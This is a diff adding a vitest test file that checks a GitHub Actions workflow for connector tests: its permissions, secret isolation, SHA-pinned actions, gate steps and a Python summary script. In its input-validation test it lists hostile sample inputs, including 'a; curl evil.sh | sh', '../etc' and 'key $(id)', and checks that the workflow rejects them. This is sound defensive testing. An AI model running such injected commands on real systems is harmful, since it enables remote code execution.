@@ -1,0 +1,385 @@
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
+import { z } from 'zod';
+import { DEFAULT_REPO_CONFIG } from '../../src/config/repo-config.js';
+import {
+  CI_GATES,
+  RESULTS_ARTIFACT_NAME,
+  RESULTS_FILES,
+  ResultsSummary,
+} from '../../src/domain/ci/results-artifact.js';
+import { ciRunKey } from '../../src/domain/pipeline/jobs.js';
+import { CiMode } from '../../src/domain/pipeline/run.js';
+
+const WORKFLOW_URL = new URL('../../.github/workflows/lakeflow-connector-tests.yml', import.meta.url);
+const PYTHON = process.env.PYTHON ?? 'python3';
+
+/** A GitHub Actions expression, `${{ inner }}` (built so Biome does not take it for a template slip). */
+function expr(inner: string): string {
+  return `\${{ ${inner} }}`;
+}
+const EXPRESSION_OPEN = expr('').slice(0, 3);
+
+/** The parts of a GitHub Actions workflow this test reads. */
+const Step = z.object({
+  name: z.string().min(1),
+  id: z.string().optional(),
+  if: z.string().optional(),
+  uses: z.string().optional(),
+  run: z.string().optional(),
+  shell: z.string().optional(),
+  env: z.record(z.string(), z.union([z.string(), z.number()])).optional(),
+  with: z.record(z.string(), z.unknown()).optional(),
+  'continue-on-error': z.boolean().optional(),
+});
+type Step = z.infer<typeof Step>;
+const Job = z.object({
+  name: z.string(),
+  if: z.string(),
+  'runs-on': z.string(),
+  'timeout-minutes': z.number(),
+  environment: z.string().optional(),
+  permissions: z.unknown().optional(),
+  env: z.record(z.string(), z.string()).optional(),
+  steps: z.array(Step).min(1),
+});
+type Job = z.infer<typeof Job>;
+const Input = z.object({
+  type: z.string(),
+  required: z.boolean(),
+  options: z.array(z.string()).optional(),
+});
+const Workflow = z.object({
+  name: z.string(),
+  'run-name': z.string(),
+  on: z.object({ workflow_dispatch: z.object({ inputs: z.record(z.string(), Input) }) }),
+  permissions: z.unknown(),
+  concurrency: z.object({ group: z.string(), 'cancel-in-progress': z.boolean() }),
+  jobs: z.record(z.string(), Job),
+});
+
+const text = readFileSync(WORKFLOW_URL, 'utf8');
+const workflow = Workflow.parse(parse(text));
+const jobs = Object.entries(workflow.jobs);
+const liveJobs = jobs.filter(([, job]) => job.environment !== undefined);
+const offlineJobs = jobs.filter(([, job]) => job.environment === undefined);
+const allSteps = jobs.flatMap(([jobId, job]) => job.steps.map((step) => ({ jobId, step })));
+
+function stepsWithId(job: Job, id: string): Step[] {
+  return job.steps.filter((step) => step.id === id);
+}
+
+function summaryStep(job: Job): Step {
+  const step = job.steps.find(
+    (candidate) => candidate.run?.includes('summary.json') && candidate.shell === 'python',
+  );
+  if (!step?.run) throw new Error(`job "${job.name}" has no python step writing summary.json`);
+  return step;
+}
+
+function uploadStep(job: Job): Step {
+  const uploads = job.steps.filter((step) => step.uses?.startsWith('actions/upload-artifact@'));
+  expect(uploads, `job "${job.name}" uploads exactly one artifact`).toHaveLength(1);
+  return uploads[0] as Step;
+}
+
+describe('the connector workflow', () => {
+  it('is dispatched with source, mode (the four CI modes) and run_key', () => {
+    const inputs = workflow.on.workflow_dispatch.inputs;
+
+    expect(Object.keys(inputs).sort()).toEqual(['mode', 'run_key', 'source']);
+    expect(inputs.source).toMatchObject({ type: 'string', required: true });
+    expect(inputs.run_key).toMatchObject({ type: 'string', required: true });
+    expect(inputs.mode).toMatchObject({ type: 'choice', required: true });
+    expect(inputs.mode?.options).toEqual(CiMode.options);
+  });
+
+  it("names each run so that the name ends with the bot's run key", () => {
+    const key = ciRunKey({ owner: 'acme', repo: 'connectors', issue: 42 }, 'test', 1, 2, 'simulate');
+    const rendered = workflow['run-name']
+      .replaceAll(expr('inputs.source'), 'github')
+      .replaceAll(expr('inputs.mode'), 'simulate')
+      .replaceAll(expr('inputs.run_key'), key);
+
+    expect(workflow['run-name'].trimEnd()).toMatch(/\$\{\{\s*inputs\.run_key\s*\}\}$/);
+    expect(rendered.endsWith(` ${key}`)).toBe(true);
+    expect(rendered).not.toContain(EXPRESSION_OPEN);
+  });
+
+  it('reads contents only, at the top and in every job, one run per ref at a time', () => {
+    expect(workflow.permissions).toEqual({ contents: 'read' });
+    for (const [jobId, job] of jobs) expect(job.permissions, jobId).toBeUndefined();
+    expect(workflow.concurrency).toEqual({
+      group: `${expr('github.workflow')}-${expr('github.ref')}`,
+      'cancel-in-progress': false,
+    });
+  });
+
+  it('bounds every job in time', () => {
+    for (const [jobId, job] of jobs) {
+      expect(job['timeout-minutes'], jobId).toBeGreaterThan(0);
+      expect(job['timeout-minutes'], jobId).toBeLessThanOrEqual(30);
+    }
+  });
+
+  it('has one offline job for simulate/package and one live job for live/auth', () => {
+    expect(offlineJobs).toHaveLength(1);
+    expect(liveJobs).toHaveLength(1);
+    const [, offline] = offlineJobs[0] as [string, Job];
+    const [, live] = liveJobs[0] as [string, Job];
+
+    expect(offline.if).toMatch(/inputs\.mode == 'simulate' \|\| inputs\.mode == 'package'/);
+    expect(live.if).toMatch(/inputs\.mode == 'live' \|\| inputs\.mode == 'auth'/);
+    expect(live.environment).toBe('lakeflow-live');
+    expect(live.environment).toBe(DEFAULT_REPO_CONFIG.environment);
+  });
+
+  it('passes inputs to scripts only through env, never as an expression inside a script', () => {
+    const offenders = allSteps.filter(({ step }) => step.run?.includes(EXPRESSION_OPEN));
+
+    expect(offenders.map(({ jobId, step }) => `${jobId}: ${step.name}`)).toEqual([]);
+  });
+
+  it('validates the inputs first in every job, before anything is checked out', () => {
+    for (const [jobId, job] of jobs) {
+      const first = job.steps[0] as Step;
+      expect(first.name, jobId).toMatch(/validate inputs/i);
+      expect(first.run, jobId).toBeDefined();
+      expect(job.env, jobId).toMatchObject({
+        SOURCE: expr('inputs.source'),
+        MODE: expr('inputs.mode'),
+        RUN_KEY: expr('inputs.run_key'),
+      });
+    }
+  });
+
+  it('rejects hostile or oversized inputs in the validation step with a clear message', () => {
+    const script = (offlineJobs[0] as [string, Job])[1].steps[0]?.run ?? '';
+    const validate = (env: Record<string, string>) =>
+      spawnSync('bash', ['-eo', 'pipefail', '-c', script], { env: { PATH: process.env.PATH, ...env } });
+    const ok = {
+      SOURCE: 'google_sheets',
+      MODE: 'package',
+      RUN_KEY: 'acme-connectors-42-b1-test-a2-simulate',
+    };
+
+    expect(validate(ok).status).toBe(0);
+    for (const bad of [
+      { SOURCE: 'a; curl evil.sh | sh' },
+      { SOURCE: '../etc' },
+      { SOURCE: 'x'.repeat(65) },
+      { SOURCE: '' },
+      { MODE: 'record' },
+      { RUN_KEY: 'key $(id)' },
+      { RUN_KEY: 'k'.repeat(201) },
+    ]) {
+      const result = validate({ ...ok, ...bad });
+      expect(result.status, JSON.stringify(bad)).toBe(1);
+      expect(result.stdout.toString()).toMatch(/::error title=Invalid input::(source|mode|run_key) must/);
+    }
+  });
+
+  it('keeps secrets and CONNECTOR_TEST_* variables out of the offline job', () => {
+    const [jobId, offline] = offlineJobs[0] as [string, Job];
+
+    expect(JSON.stringify(offline), jobId).not.toMatch(/secrets\./);
+    const envNames = [offline.env ?? {}, ...offline.steps.map((step) => step.env ?? {})].flatMap(Object.keys);
+    expect(envNames.filter((name) => name.startsWith('CONNECTOR_TEST_'))).toEqual([]);
+    expect(offline.steps.map((step) => step.run ?? '').join('\n')).not.toContain('CONNECTOR_TEST_');
+  });
+
+  it('gives the secret only to the auth_test and pytest steps of the live job, never echoing it', () => {
+    const [, live] = liveJobs[0] as [string, Job];
+    const withSecret = live.steps.filter((step) => JSON.stringify(step).includes('secrets.'));
+
+    expect(JSON.stringify(live.env)).not.toContain('secrets.');
+    expect(withSecret.map((step) => step.id)).toEqual(['auth_test', 'pytest']);
+    for (const step of withSecret) {
+      expect(step.env?.CONNECTOR_TEST_CONFIG_JSON).toBe(expr('secrets.CONNECTOR_TEST_CONFIG_JSON'));
+    }
+    expect(stepsWithId(live, 'pytest')[0]?.env?.CONNECTOR_TEST_MODE).toBe('live');
+    expect(text).not.toMatch(/(echo|printf|cat)[^\n]*CONNECTOR_TEST_CONFIG_JSON/);
+  });
+
+  it('pins every action to a full commit SHA with a version comment', () => {
+    const uses = allSteps.flatMap(({ step }) => (step.uses ? [step.uses] : []));
+    const lines = text.split('\n').filter((line) => /^\s*(-\s+)?uses:/.test(line));
+
+    expect(uses.length).toBeGreaterThanOrEqual(6);
+    for (const ref of uses) expect(ref).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
+    for (const line of lines) expect(line).toMatch(/@[0-9a-f]{40} # v\d+(\.\d+)*$/);
+  });
+
+  it('uploads results/ (and nothing else) as the one artifact the bot reads, even after a failure', () => {
+    for (const [jobId, job] of jobs) {
+      const upload = uploadStep(job);
+
+      expect(upload.with?.name, jobId).toBe(RESULTS_ARTIFACT_NAME);
+      expect(upload.with?.path, jobId).toBe('results/');
+      expect(upload.if, jobId).toBe('always()');
+      expect(Number(upload.with?.['retention-days']), jobId).toBeLessThanOrEqual(14);
+    }
+  });
+
+  it('writes the JUnit XML of every pytest step where the artifact picks it up', () => {
+    for (const [jobId, job] of jobs) {
+      const pytest = stepsWithId(job, 'pytest')[0];
+      const junit = /--junitxml=(\S+)/.exec(pytest?.run ?? '')?.[1];
+
+      expect(pytest?.run, jobId).toContain('-p no:cacheprovider');
+      expect(pytest?.run, jobId).toContain('test_exclude.txt');
+      expect(junit, jobId).toBe(`${uploadStep(job).with?.path}${RESULTS_FILES.junit}`);
+    }
+  });
+
+  it('runs each gate as its own step, whose failure does not stop the later gates, with a log tail', () => {
+    for (const [jobId, job] of jobs) {
+      const gateSteps = job.steps.filter((step) => (CI_GATES as readonly string[]).includes(step.id ?? ''));
+
+      expect(gateSteps.length, jobId).toBeGreaterThan(0);
+      for (const step of gateSteps) {
+        expect(step['continue-on-error'], `${jobId}.${step.id}`).toBe(true);
+        expect(step.run, `${jobId}.${step.id}`).toContain(`tee results/logs/${step.id}.txt`);
+        expect(step.run, `${jobId}.${step.id}`).toContain(`tail -c 8000 results/logs/${step.id}.txt`);
+      }
+    }
+    const offline = (offlineJobs[0] as [string, Job])[1];
+    const live = (liveJobs[0] as [string, Job])[1];
+    expect(offline.steps.flatMap((step) => step.id ?? [])).toEqual(
+      expect.arrayContaining(['pytest', 'merged_source', 'pylint', 'wheel']),
+    );
+    expect(stepsWithId(offline, 'auth_test')).toEqual([]);
+    expect(stepsWithId(live, 'auth_test')[0]?.if).toContain("inputs.mode == 'auth'");
+    expect(stepsWithId(offline, 'wheel')[0]?.if).toContain("inputs.mode == 'package'");
+    expect(stepsWithId(offline, 'wheel')[0]?.run).toContain(
+      'python -m build --wheel "$SOURCE_DIR" --outdir results/dist',
+    );
+  });
+
+  it('lints with the exact pylint flags of the repository CI, without the generated file', () => {
+    const pylint = stepsWithId((offlineJobs[0] as [string, Job])[1], 'pylint')[0]?.run ?? '';
+
+    expect(pylint).toContain(
+      '--max-line-length=100 --max-locals=25 --max-branches=20 --max-module-lines=1500',
+    );
+    expect(pylint).toContain('--disable=W,C0114,C0115,C0116,C0415,R0801,R0902,R0903,R0911,R0913,R0917,R1705');
+    expect(pylint).toContain("grep -v '/_generated_'");
+  });
+
+  it('names exactly the CI gates in the summary step, the same step in both jobs', () => {
+    for (const [jobId, job] of jobs) {
+      const step = summaryStep(job);
+      const outcomes = Object.entries(step.env ?? {}).filter(([name]) => name.startsWith('OUTCOME_'));
+
+      expect(step.if, jobId).toBe('always()');
+      expect(
+        outcomes.map(([name]) => name.slice('OUTCOME_'.length).toLowerCase()),
+        jobId,
+      ).toEqual([...CI_GATES]);
+      for (const [name, value] of outcomes) {
+        expect(value).toBe(expr(`steps.${name.slice('OUTCOME_'.length).toLowerCase()}.outcome`));
+      }
+      expect(step.run, jobId).toContain(`GATES = (${CI_GATES.map((gate) => `"${gate}"`).join(', ')})`);
+    }
+    expect(summaryStep((liveJobs[0] as [string, Job])[1])).toEqual(
+      summaryStep((offlineJobs[0] as [string, Job])[1]),
+    );
+  });
+});
+
+describe('the summary step, run with python', () => {
+  const script = summaryStep((offlineJobs[0] as [string, Job])[1]).run ?? '';
+  const dirs: string[] = [];
+
+  afterEach(() => {
+    for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
+  });
+
+  function runSummary(env: Record<string, string>) {
+    const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-summary-'));
+    dirs.push(cwd);
+    const result = spawnSync(PYTHON, ['-c', script], { cwd, env: { PATH: process.env.PATH, ...env } });
+    const file = join(cwd, 'results', RESULTS_FILES.summary);
+    const summary = existsSync(file) ? ResultsSummary.parse(JSON.parse(readFileSync(file, 'utf8'))) : null;
+    return {
+      status: result.status,
+      stdout: result.stdout.toString(),
+      stderr: result.stderr.toString(),
+      summary,
+    };
+  }
+
+  const inputs = { SOURCE: 'example_crm', RUN_KEY: 'acme-connectors-42-b1-test-a3-simulate' };
+
+  it('writes a summary the bot parses, mapping step outcomes to gate results, and passes when nothing failed', () => {
+    const result = runSummary({
+      ...inputs,
+      MODE: 'package',
+      OUTCOME_AUTH_TEST: '',
+      OUTCOME_PYTEST: 'success',
+      OUTCOME_MERGED_SOURCE: 'success',
+      OUTCOME_PYLINT: 'success',
+      OUTCOME_WHEEL: 'skipped',
+    });
+
+    expect(result.stderr).toBe('');
+    expect(result.status).toBe(0);
+    expect(result.summary).toEqual({
+      version: 1,
+      source: 'example_crm',
+      mode: 'package',
+      runKey: 'acme-connectors-42-b1-test-a3-simulate',
+      gates: {
+        auth_test: 'skipped',
+        pytest: 'passed',
+        merged_source: 'passed',
+        pylint: 'passed',
+        wheel: 'skipped',
+      },
+    });
+  });
+
+  it('records failed and cancelled gates as failed and fails the job, still writing the summary', () => {
+    const result = runSummary({
+      ...inputs,
+      MODE: 'simulate',
+      OUTCOME_PYTEST: 'failure',
+      OUTCOME_MERGED_SOURCE: 'success',
+      OUTCOME_PYLINT: 'cancelled',
+    });
+
+    expect(result.status).toBe(1);
+    expect(result.stdout).toContain('::error title=Gates failed::pytest, pylint');
+    expect(result.summary?.gates).toEqual({
+      auth_test: 'skipped',
+      pytest: 'failed',
+      merged_source: 'passed',
+      pylint: 'failed',
+      wheel: 'skipped',
+    });
+  });
+
+  it('records the live auth check', () => {
+    const result = runSummary({ ...inputs, MODE: 'auth', OUTCOME_AUTH_TEST: 'failure' });
+
+    expect(result.status).toBe(1);
+    expect(result.summary).toMatchObject({ mode: 'auth', gates: { auth_test: 'failed', pytest: 'skipped' } });
+  });
+
+  it('writes nothing and fails when the inputs are not valid', () => {
+    const result = runSummary({
+      ...inputs,
+      SOURCE: 'bad source',
+      MODE: 'simulate',
+      OUTCOME_PYTEST: 'success',
+    });
+
+    expect(result.status).toBe(1);
+    expect(result.summary).toBeNull();
+    expect(result.stdout).toContain('::error title=No summary::');
+  });
+});
